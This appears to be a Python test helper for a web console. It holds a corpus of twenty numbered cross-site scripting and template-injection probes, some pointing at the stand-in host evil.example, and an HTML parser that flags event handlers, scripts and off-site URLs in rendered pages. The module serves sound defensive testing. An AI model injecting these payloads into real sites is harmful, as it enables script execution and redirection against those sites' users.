"""A corpus of texts that a careless page would run, and what tells whether a page took one for markup."""

from __future__ import annotations

import re
from html.parser import HTMLParser

#: Each carries a number, so that it is known which one got through.
CORPUS = tuple(
    text.replace("N", str(number))
    for number, text in enumerate(
        (
            "<script>top.hit='N'</script>",
            '"><script>top.hit="N"</script>',
            "'><img src=x onerror=top.hit='N'>",
            '" autofocus onfocus="top.hit=\'N\'" x="',
            "<svg/onload=top.hit='N'>",
            "javascript:top.hit='N'",
            "</title><script>top.hit='N'</script>",
            "</textarea></style></code><script>top.hit='N'</script>",
            "<iframe srcdoc=\"<script>top.hit='N'</script>\"></iframe>",
            "<a href=\"javascript:top.hit='N'\">N</a>",
            "<style>@import url(//evil.example/N)</style>",
            "<base href=//evil.example/N>",
            "<meta http-equiv=refresh content='0;url=javascript:top.hit=N'>",
            "<math><mtext><table><mglyph><style><img src=x onerror=top.hit='N'>",
            "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}",
            "<!--><script>top.hit='N'</script>-->",
            "\u202e<b>N</b>\u2066",
            "<form action=//evil.example/N><button>",
            "<details open ontoggle=top.hit='N'>",
            "`-top.hit='N'-`",
        )
    )
)
_WORDS = """
html head meta title link body a header div img nav form input button main ol li h1 h2 p section table thead tr th
tbody td span code br pre dl dt dd label time ul select option h3 datalist svg g rect
"""
_ELEMENTS = frozenset(_WORDS.split())
_SCRIPT = re.compile(r"/console/static/[\w.-]+\.js\?v=[0-9a-f]{12}")


class Markup(HTMLParser):
    """What is wrong with a page: elements and attributes that no template of ours writes."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.scripting = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            # Ours are files of ours, and say nothing themselves.
            self.scripting = True
            if [name for name, _ in attrs] != ["src", "defer"] or not _SCRIPT.fullmatch(attrs[0][1] or ""):
                self.wrong.append(f"<script {attrs}>")
        elif tag not in _ELEMENTS:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            address = (value or "").strip().lower()
            if name.startswith("on") or name in {"style", "srcdoc"}:
                self.wrong.append(f"<{tag} {name}>")
            if name in {"href", "src", "action"} and not address.startswith("/console") and address != "#main":
                self.wrong.append(f"<{tag} {name}={value}>")
            if name == "http-equiv":
                self.wrong.append(f"<{tag} {name}>")

    def handle_endtag(self, tag: str) -> None:
        self.scripting = self.scripting and tag != "script"

    def handle_data(self, data: str) -> None:
        if self.scripting:
            self.wrong.append(f"<script>{data}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}")


def wrong_in(text: str) -> list[str]:
    reader = Markup()
    reader.feed(text)
    reader.close()
    return reader.wrong
